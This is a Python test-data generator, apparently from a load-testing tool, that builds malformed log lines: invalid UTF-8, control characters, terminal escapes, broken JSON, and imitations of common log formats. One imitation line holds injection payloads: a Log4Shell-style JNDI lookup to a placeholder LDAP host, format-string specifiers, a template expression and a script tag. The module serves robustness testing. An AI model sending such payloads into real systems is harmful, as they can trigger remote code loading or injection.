r"""Lines that nobody means to write and every platform has.

Bytes that are not UTF-8 or not allowed in it, NULs and control characters, very long runs, broken JSON, escapes that
stand alone, terminal colours, right-to-left marks, and lines that look like another format than they are. The marker
stands between other bytes, so that whoever cuts or cleans a line damages what is compared. No line feed: a container
runtime ends its line there.
"""

from collections.abc import Callable
from random import Random
from typing import Final

from loadtest.messages.text import MARK, Prose, Text

_NOT_UTF8: Final = (
    b"\xff",
    b"\xfe",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf5\x80\x80\x80",
    b"\xe2\x82",
    b"\xf0\x9f\x98",
    b"\x80",
)
_CONTROLS: Final = (*(bytes([code]) for code in range(1, 32) if code != ord("\n")), b"\x7f", b"\xc2\x85")
_ESCAPES: Final = (rb"\ud800", rb"\udc00\ud800", rb"\u12", rb"\x", rb"\\", rb"\n", rb"\u0000", b"\\", rb"\xff", rb"\"")
_COLOURS: Final = (
    b"\x1b[31m",
    b"\x1b[1;32m",
    b"\x1b[0m",
    b"\x1b[38;5;208m",
    b"\x1b]0;title\x07",
    b"\x1b[2K",
    b"\x9b31m",
)
_CHARACTERS: Final = tuple(
    character.encode() for character in "\u202e\u2066\u2028\u2029\ufeff\u200b\ufffd\ufffe\U0001f600\u0301é漢"
)
_BROKEN: Final = (b'{"a":[1,', b'{"a":"', b"{'a':", b'{"a":1}}', b"[[[[", b'{"a":NaN,', b'"', b"{", b'{"a"\x00:')
_LIKENESSES: Final = (
    (b'{"log":"', b'\\n","stream":"stderr","time":"2021-01-01T00:00:00.000000001Z"}'),
    (b'{"event_id":"', b'","@timestamp":"1970-01-01T00:00:00Z","body":null,"attributes":{"log":"x"}}'),
    (b'{"partial_message":"true","partial_id":"0","partial_ordinal":"1","log":"', b'"}'),
    (b"\tat com.example.Never.", b"(Never.java:1)"),
    (b"Traceback (most recent call last): ", b""),
    (b"<34>1 2003-10-11T22:14:15.003Z host su - ID47 - ", b""),
    (b"CEF:0|vendor|product|1|100|", b"|10|src=192.0.2.1"),
    (b'192.0.2.1 - - [not a date] "GET /', b' HTTP/1.1" 999 - "-" "-"'),
    (b"\x1f\x8b\x08\x00", b"\x00\x00"),
    (b"\x93\xa3tag\xc4\xff", b"\xc1"),
    (b"${jndi:ldap://192.0.2.1/", b"} %n%s %(x)s {{7*7}} <script>"),
    (b"[redacted:email] ", b" \\x41"),
)


def hostile(random: Random, prose: Prose, size: int) -> list[Text]:
    """One line of one of these kinds."""
    room = max(size - len(MARK), 0)
    before = random.randrange(room + 1)
    return [Text(random.choice(_KINDS)(random, prose, before, room - before))]


def _strewn(random: Random, prose: Prose, length: int, pieces: tuple[bytes, ...]) -> bytes:
    """Words with such pieces between them, so many bytes of it."""
    made = b""
    while len(made) < length:
        made += random.choice(pieces) + prose.cut(random.randrange(24))
    return made[:length]


def _with(pieces: tuple[bytes, ...]) -> Callable[[Random, Prose, int, int], bytes]:
    def make(random: Random, prose: Prose, before: int, after: int) -> bytes:
        return _strewn(random, prose, before, pieces) + MARK + _strewn(random, prose, after, pieces)

    return make


def _noise(random: Random, prose: Prose, before: int, after: int) -> bytes:  # noqa: ARG001 - as the others
    made = random.randbytes(before + after).replace(b"\n", b"\r")
    return made[:before] + MARK + made[before:]


def _run(random: Random, prose: Prose, before: int, after: int) -> bytes:  # noqa: ARG001 - as the others
    one, other = (random.choice((b"a", b" ", b"\x00", b"0", b"\\", b'"', b"[", b"=", b"\xff")) for _ in range(2))
    return one * before + MARK + other * after


def _likeness(random: Random, prose: Prose, before: int, after: int) -> bytes:
    head, tail = random.choice(_LIKENESSES)
    room = before + after - len(head) - len(tail)
    return head + MARK + prose.cut(max(room, 0)) + tail


_KINDS: Final[tuple[Callable[[Random, Prose, int, int], bytes], ...]] = (
    _with(_NOT_UTF8),
    _with((b"\x00", b"\x00\x00")),
    _with(_CONTROLS),
    _with(_ESCAPES),
    _with(_COLOURS),
    _with(_CHARACTERS),
    _with(_BROKEN),
    _noise,
    _run,
    _likeness,
    _likeness,
)
